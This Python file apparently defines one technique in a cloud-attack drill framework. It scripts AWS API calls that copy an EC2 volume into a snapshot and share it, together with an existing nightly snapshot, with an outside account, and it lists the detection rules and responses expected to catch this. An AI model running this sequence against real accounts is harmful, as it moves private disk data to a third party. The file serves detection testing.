"""A disk is copied, and copy and original are shared with another account, which needs no key of yours to read them."""

from typing import Any

from unleak.drill.documents import STRANGER, be_administrator
from unleak.drill.moves import Answer, call, notes
from unleak.drill.stage import Stage
from unleak.drill.technique import LEAVES, Loot, Technique, Traces


def prepare(stage: Stage) -> None:
    be_administrator(stage)
    ec2 = stage.admin.client(stage.account, "ec2")
    volume = ec2.create_volume(AvailabilityZone="us-east-1a", Size=8)["VolumeId"]
    ec2.create_snapshot(VolumeId=volume, Description="nightly")


def _nightly(loot: Loot, answer: Answer) -> None:
    found = [s for s in answer["Snapshots"] if s["Description"] == "nightly"]
    loot.seen.setdefault("nightly", str(found[0]["SnapshotId"]))


_SHARE: dict[str, Any] = {"Attribute": "createVolumePermission", "OperationType": "add", "UserIds": [STRANGER]}
_MINE = [{"Name": "owner-id", "Values": ["{account}"]}]

TECHNIQUE = Technique(
    id="disk_shared",
    title="Disks copied and shared",
    attack=("T1537", "T1578.001"),
    prepare=prepare,
    moves=(
        call("ec2:DescribeVolumes", then=notes("volume", "Volumes", 0, "VolumeId")),
        call("ec2:DescribeSnapshots", then=_nightly, Filters=_MINE),
        call("ec2:CreateSnapshot", then=notes("copy", "SnapshotId"), VolumeId="{volume}", Description="copy"),
        call("ec2:ModifySnapshotAttribute", SnapshotId="{copy}", **_SHARE),
        call("ec2:ModifySnapshotAttribute", SnapshotId="{nightly}", **_SHARE),
    ),
    seen=Traces(rules=("snapshot-created", "snapshot-shared"), things=("EC2::Snapshot",)),
    stopped_by=("attach_quarantine", "revoke_user_sessions", "deactivate_key"),
    leaves=("snapshot",),
    only_standin=LEAVES,
)
